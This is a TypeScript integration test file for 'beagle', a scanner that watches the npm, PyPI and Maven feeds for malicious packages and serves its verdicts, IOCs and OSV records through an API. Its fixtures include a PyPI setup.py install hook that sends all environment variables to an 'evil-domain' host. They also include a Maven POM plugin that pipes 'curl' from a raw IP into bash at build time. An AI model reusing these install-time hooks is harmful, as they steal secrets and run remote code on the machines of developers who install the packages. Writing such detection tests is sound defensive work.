import { afterEach, beforeEach, describe, expect, it } from 'vitest';
import yauzl from 'yauzl';
import { type RunningIndex, startIndex } from '../../src/service/index.js';
import {
  BENIGN_INDEX,
  FakeRegistries,
  getJson,
  stealerIndex,
  tempDir,
  testConfig,
  waitFor,
} from './helpers.js';

describe('beagle index (embedded SQLite): feed -> queue -> worker -> store -> API', () => {
  let reg: FakeRegistries;
  let tmp: ReturnType<typeof tempDir>;
  let running: RunningIndex | undefined;

  beforeEach(async () => {
    reg = await new FakeRegistries().start();
    tmp = tempDir();
  });
  afterEach(async () => {
    await running?.stop();
    running = undefined;
    await reg.stop();
    tmp.cleanup();
  });

  it('turns _changes into stored verdicts served by the API', async () => {
    const now = Date.now();
    await reg.publish({
      name: 'left-pad-ok',
      version: '1.0.0',
      files: { 'index.js': BENIGN_INDEX },
      publishedAt: now - 60_000,
    });
    await reg.publish({
      name: 'colors-helper-x',
      version: '2.1.0',
      files: { 'index.js': stealerIndex('collect.evil-exfil.xyz') },
      scripts: { postinstall: 'node index.js' },
      publishedAt: now - 30_000,
      publisher: 'mallory',
    });
    await reg.publish({
      name: '@scope/thing',
      version: '0.0.1',
      files: { 'index.js': BENIGN_INDEX },
      publishedAt: now - 10_000,
    });
    running = await startIndex(testConfig(reg, `sqlite:${tmp.dir}/index.db`), {
      watch: true,
      work: true,
      serve: true,
    });
    const api = running.url!;
    await waitFor(async () => (await running!.backend.queue.counts()).done === 3 || undefined);

    const bad = await getJson(`${api}/api/v1/packages/npm/colors-helper-x/2.1.0`);
    expect(bad.status).toBe('scanned');
    expect(bad.verdict).toBe('malicious');
    expect(bad.findings.length).toBeGreaterThan(0);
    expect(bad.publisher).toBe('mallory');
    expect(bad.latencyMs).toBeGreaterThanOrEqual(30_000);
    expect(bad.iocs.join(' ')).toContain('evil-exfil.xyz');

    const good = await getJson(`${api}/api/v1/packages/npm/left-pad-ok/1.0.0`);
    expect(good.verdict).toBe('clean');
    const scoped = await getJson(`${api}/api/v1/packages/npm/@scope/thing/0.0.1`);
    expect(scoped.name).toBe('@scope/thing');
    const versions = await getJson(`${api}/api/v1/packages/npm/@scope/thing`);
    expect(versions.versions.map((v: any) => v.version)).toEqual(['0.0.1']);

    const search = await getJson(`${api}/api/v1/search?q=colors`);
    expect(search.total).toBe(1);
    const recent = await getJson(`${api}/api/v1/detections/recent`);
    expect(recent.detections.map((d: any) => d.name)).toEqual(['colors-helper-x']);

    const stats = await getJson(`${api}/api/v1/stats?interval=week`);
    expect(stats.totals.npm).toBe(1);
    expect(
      stats.buckets.some(
        (b: any) => b.ecosystem === 'npm' && b.count === 1 && /^\d{4}-W\d\d$/.test(b.period),
      ),
    ).toBe(true);

    const iocs = await getJson(`${api}/api/v1/iocs`);
    expect(iocs.iocs.some((i: any) => i.value.includes('evil-exfil.xyz'))).toBe(true);

    const osv = await getJson(`${api}/api/v1/osv`);
    expect(osv).toHaveLength(1);
    expect(osv[0].affected[0].package).toMatchObject({ ecosystem: 'npm', name: 'colors-helper-x' });
    expect(osv[0].affected[0].versions).toEqual(['2.1.0']);
    const one = await getJson(`${api}/api/v1/osv/${osv[0].id}.json`);
    expect(one.id).toBe(osv[0].id);
    // OSV-Scanner's offline layout: <ecosystem>/all.zip of <id>.json records.
    const zipRes = await fetch(`${api}/api/v1/osv/npm/all.zip`);
    expect(zipRes.headers.get('content-type')).toBe('application/zip');
    const entries = await unzip(Buffer.from(await zipRes.arrayBuffer()));
    expect(Object.keys(entries)).toEqual([`${osv[0].id}.json`]);
    expect(JSON.parse(entries[`${osv[0].id}.json`]!).affected[0].package.name).toBe('colors-helper-x');
    expect(
      Object.keys(
        await unzip(Buffer.from(await (await fetch(`${api}/api/v1/osv/PyPI/all.zip`)).arrayBuffer())),
      ),
    ).toEqual([]);

    const metrics = await (await fetch(`${api}/metrics`)).text();
    expect(metrics).toMatch(/beagle_scans_total\{ecosystem="npm",verdict="malicious"\} 1/);
    expect(metrics).toMatch(/beagle_queue_jobs\{state="done"\} 3/);
    const health = await getJson(`${api}/health`);
    expect(health.status).toBe('ok');
  });

  it('answers bad requests with 4xx and a reason, never a stack', async () => {
    running = await startIndex(testConfig(reg, `sqlite:${tmp.dir}/index.db`), {
      watch: false,
      work: false,
      serve: true,
    });
    const api = running.url!;
    const cases: Array<[string, number]> = [
      ['/api/v1/packages/rubygems/rails/7.0.0', 400],
      ['/api/v1/packages/npm/nope/1.0.0', 404],
      ['/api/v1/search?limit=100000', 400],
      ['/api/v1/stats?interval=century', 400],
      ['/api/v1/stats?from=yesterday-ish', 400],
      ['/api/v1/iocs/packages', 400],
      ['/api/v1/osv/not-an-id', 400],
      ['/api/v1/campaigns/C-0000000000', 404],
      ['/nowhere', 404],
    ];
    for (const [path, code] of cases) {
      const res = await fetch(`${api}${path}`);
      expect(res.status, path).toBe(code);
      const body = (await res.json()) as { message?: unknown };
      expect(typeof body.message, path).toBe('string');
      expect(JSON.stringify(body)).not.toMatch(/\bat .*\.(?:js|ts):\d+/);
    }
    // An internal failure (database closed under the server) is a bare 500.
    await running.backend.db.close();
    const res = await fetch(`${api}/api/v1/search?q=x`);
    expect(res.status).toBe(500);
    expect(await res.json()).toEqual({ error: 'internal', message: 'internal error' });
  });
});

describe('beagle index (embedded): PyPI changelog -> scan of the sdist', () => {
  it('scans PyPI releases announced by XML-RPC through the JSON API and stores their verdicts', async () => {
    const reg = await new FakeRegistries().start();
    const tmp = tempDir();
    let running: RunningIndex | undefined;
    try {
      const now = Date.now();
      await reg.publishPypi({
        name: 'tidy-strings',
        version: '0.3.0',
        at: now - 20_000,
        files: {
          'setup.py':
            "from setuptools import setup\nsetup(name='tidy-strings', version='0.3.0', packages=['tidy_strings'])\n",
          'tidy_strings/__init__.py': 'def tidy(s):\n    return " ".join(s.split())\n',
        },
      });
      await reg.publishPypi({
        name: 'reqeusts-toolbelt',
        version: '1.0.1',
        at: now - 10_000,
        files: {
          'setup.py': `import os, json, urllib.request
from setuptools import setup
from setuptools.command.install import install

class Post(install):
    def run(self):
        data = json.dumps(dict(os.environ)).encode()
        urllib.request.urlopen('https://pypi-exfil.evil-domain.xyz/c', data=data)
        install.run(self)

setup(name='reqeusts-toolbelt', version='1.0.1', cmdclass={'install': Post})
`,
        },
      });
      const config = testConfig(reg, `sqlite:${tmp.dir}/index.db`);
      config.feeds.npm.enabled = false;
      config.feeds.pypi.enabled = true;
      config.feeds.pypi.since = '1000';
      config.registries.pypi = `${reg.url}/pypi/simple/`;
      running = await startIndex(config, { watch: true, work: true, serve: true });
      await waitFor(async () => {
        const c = await running!.backend.queue.counts();
        return c.done + c.parked === 2 || undefined;
      });
      const jobs = await running.backend.store.jobs({ limit: 10, offset: 0 });
      expect(jobs.map((j) => `${j.name}@${j.version}:${j.state}`).sort()).toEqual([
        'reqeusts-toolbelt@1.0.1:done',
        'tidy-strings@0.3.0:done',
      ]);
      const bad = await getJson(`${running.url}/api/v1/packages/pypi/reqeusts-toolbelt/1.0.1`);
      expect(bad.status).toBe('scanned');
      expect(['malicious', 'suspicious']).toContain(bad.verdict);
      expect(bad.digest).toMatch(/^sha256:/);
      expect(bad.latencyMs).toBeGreaterThanOrEqual(10_000);
      const good = await getJson(`${running.url}/api/v1/packages/pypi/Tidy_Strings/0.3.0`);
      expect(good.verdict).toBe('clean');
      expect(good.name).toBe('tidy-strings');
    } finally {
      await running?.stop();
      await reg.stop();
      tmp.cleanup();
    }
  });
});

describe('beagle index (embedded): Maven Central listing -> scan of POM + jar', () => {
  it('scans new Maven artifacts from the listing and stores their verdicts', async () => {
    const reg = await new FakeRegistries().start();
    const tmp = tempDir();
    let running: RunningIndex | undefined;
    const pom = (g: string, a: string, v: string, build = '') =>
      `<?xml version="1.0"?><project xmlns="http://maven.apache.org/POM/4.0.0"><modelVersion>4.0.0</modelVersion><groupId>${g}</groupId><artifactId>${a}</artifactId><version>${v}</version><packaging>jar</packaging>${build}</project>`;
    try {
      const now = Date.now();
      reg.publishMaven({
        g: 'com.example',
        a: 'strings',
        v: '1.0.0',
        at: now - 20_000,
        pom: pom('com.example', 'strings', '1.0.0'),
        jarFiles: {
          'META-INF/MANIFEST.MF': 'Manifest-Version: 1.0\n',
          'strings.properties': 'greeting=hello\n',
        },
      });
      reg.publishMaven({
        g: 'io.github.badactor',
        a: 'spring-utils',
        v: '2.0.0',
        at: now - 10_000,
        pom: pom(
          'io.github.badactor',
          'spring-utils',
          '2.0.0',
          `<build><plugins><plugin><groupId>org.codehaus.mojo</groupId><artifactId>exec-maven-plugin</artifactId><version>3.1.0</version><executions><execution><phase>validate</phase><goals><goal>exec</goal></goals><configuration><executable>bash</executable><arguments><argument>-c</argument><argument>curl -s http://45.61.160.14:1224/pdown | bash</argument></arguments></configuration></execution></executions></plugin></plugins></build>`,
        ),
        jarFiles: { 'META-INF/MANIFEST.MF': 'Manifest-Version: 1.0\n' },
      });
      const config = testConfig(reg, `sqlite:${tmp.dir}/index.db`);
      config.feeds.npm.enabled = false;
      config.feeds.maven.enabled = true;
      config.feeds.maven.since = String(now - 60_000);
      config.registries.maven = `${reg.url}/maven2/`;
      running = await startIndex(config, { watch: true, work: true, serve: true });
      await waitFor(async () => {
        const c = await running!.backend.queue.counts();
        return c.done + c.parked === 2 || undefined;
      });
      const jobs = await running.backend.store.jobs({ limit: 10, offset: 0 });
      expect(jobs.map((j) => `${j.name}@${j.version}:${j.state}`).sort()).toEqual([
        'com.example:strings@1.0.0:done',
        'io.github.badactor:spring-utils@2.0.0:done',
      ]);
      const good = await getJson(`${running.url}/api/v1/packages/maven/com.example:strings/1.0.0`);
      expect(good.verdict).toBe('clean');
      const bad = await getJson(`${running.url}/api/v1/packages/maven/io.github.badactor:spring-utils/2.0.0`);
      expect(['malicious', 'suspicious']).toContain(bad.verdict);
      expect(bad.digest).toMatch(/^sha1:/);
    } finally {
      await running?.stop();
      await reg.stop();
      tmp.cleanup();
    }
  });
});

/** Reads a zip with yauzl (an independent reader) into name -> text. */
function unzip(buf: Buffer): Promise<Record<string, string>> {
  return new Promise((resolve, reject) => {
    yauzl.fromBuffer(buf, { lazyEntries: true }, (err, zip) => {
      if (err || !zip) return reject(err);
      const out: Record<string, string> = {};
      zip.on('entry', (entry: yauzl.Entry) => {
        zip.openReadStream(entry, (e, stream) => {
          if (e || !stream) return reject(e);
          const chunks: Buffer[] = [];
          stream.on('data', (c: Buffer) => chunks.push(c));
          stream.on('end', () => {
            out[entry.fileName] = Buffer.concat(chunks).toString('utf8');
            zip.readEntry();
          });
        });
      });
      zip.on('end', () => resolve(out));
      zip.on('error', reject);
      zip.readEntry();
    });
  });
}
